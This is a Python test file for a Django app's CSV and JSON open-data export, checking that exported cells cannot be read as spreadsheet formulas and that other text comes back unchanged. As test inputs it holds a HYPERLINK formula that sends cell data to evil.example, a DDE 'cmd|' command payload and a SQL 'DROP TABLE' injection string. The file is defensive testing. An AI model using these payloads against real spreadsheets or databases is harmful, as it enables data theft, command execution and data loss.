"""What a cell looks like: any text comes back, and no spreadsheet takes it for a formula."""

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from django.contrib.contenttypes.models import ContentType
from django.db.models import Value
from hypothesis import example, given
from hypothesis import strategies as st

from consultations.models import Proposal
from consultations.open_data.copying import FORMULA_STARTS, Format, neutralised
from consultations.open_data.tables import Column, Type
from tests.exports.reading import copied
from tests.factories import ProposalFactory, make_consultation

pytestmark = pytest.mark.django_db

# PostgreSQL holds no NUL, and no half of a surrogate pair is text.
any_text = st.text(st.characters(blacklist_characters="\0", blacklist_categories=["Cs"]))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def written(text: str, file_format: Format) -> bytes:
    """``text`` as PostgreSQL writes it into a file, beside any row: there is always a content type."""
    return copied(ContentType.objects.all()[:1], [Column("body", Type.TEXT, "", Value(text))], file_format)


@given(any_text)
@example(FORMULA)
@example('two\r\nlines, "quoted"; and\ttabbed')
@example("\\.")
@example("'")
@example("\x01\x02")
def test_any_text_comes_back_from_csv_but_for_the_apostrophe(text):
    line = written(text, Format.CSV).decode()

    assert line.startswith('"') and line.endswith('"\n')
    assert list(csv.reader(io.StringIO(line, newline=""), strict=True)) == [[neutralised(text)]]


@given(any_text)
@example('"\\.\x01\x02\x7f\u2028')
def test_any_text_comes_back_from_json_as_it_was(text):
    line = written(text, Format.JSON)

    assert line.count(b"\n") == 1
    assert json.loads(line) == {"body": text}


@given(st.sampled_from(FORMULA_STARTS), any_text)
def test_no_cell_begins_like_a_formula(start, text):
    [[cell]] = csv.reader(io.StringIO(written(start + text, Format.CSV).decode(), newline=""))

    assert cell == neutralised(start + text)
    assert cell.startswith("'" + start)


@given(any_text, st.sampled_from(";\t\r\n"), st.sampled_from("=+-@＝＋－＠"), any_text)
@example("hola ", ";", "=", "cmd|'/C calc'!A0;")
def test_nor_does_one_where_a_spreadsheet_divides_lines_at_semicolons_and_sees_no_quotes(text, divider, start, rest):
    line = written(text + divider + start + rest, Format.CSV).decode()

    assert not [cell for cell in re.split("[;\t\r\n]", f"394,{line}") if cell.startswith(tuple("=+-@＝＋－＠"))]


def test_numbers_stay_numbers_and_empty_is_not_an_empty_text():
    consultation = make_consultation()
    ProposalFactory(consultation=consultation, title="-5", cost_cents=None, latitude=-34.6, longitude=None, category="")
    columns = [
        Column("title", Type.TEXT, ""),
        Column("cost_cents", Type.INTEGER, ""),
        Column("latitude", Type.NUMBER, ""),
        Column("longitude", Type.NUMBER, ""),
        Column("category", Type.TEXT, ""),
        Column("is_official", Type.BOOLEAN, ""),
    ]

    assert copied(Proposal.objects.all(), columns) == b'"\'-5",,-34.6,,"",false\n'
    assert json.loads(copied(Proposal.objects.all(), columns, Format.JSON)) == {
        "title": "-5",
        "cost_cents": None,
        "latitude": -34.6,
        "longitude": None,
        "category": "",
        "is_official": False,
    }


def test_times_are_iso_8601_in_utc():
    consultation = make_consultation()
    ProposalFactory(consultation=consultation, created_at=datetime(2026, 3, 1, 23, 4, 5, 678_901, tzinfo=UTC))
    columns = [Column("created_at", Type.DATETIME, "")]

    assert copied(Proposal.objects.all(), columns) == b"2026-03-01T23:04:05.678Z\n"


def test_text_that_is_sql_is_only_text():
    consultation = make_consultation()
    nasty = "'; DROP TABLE comments_comment; -- %s %(id)s \\x27 $$"
    ProposalFactory(consultation=consultation, title=nasty)

    line = copied(Proposal.objects.filter(title=nasty), [Column("title", Type.TEXT, "")])

    assert list(csv.reader([line.decode()])) == [[neutralised(nasty)]]
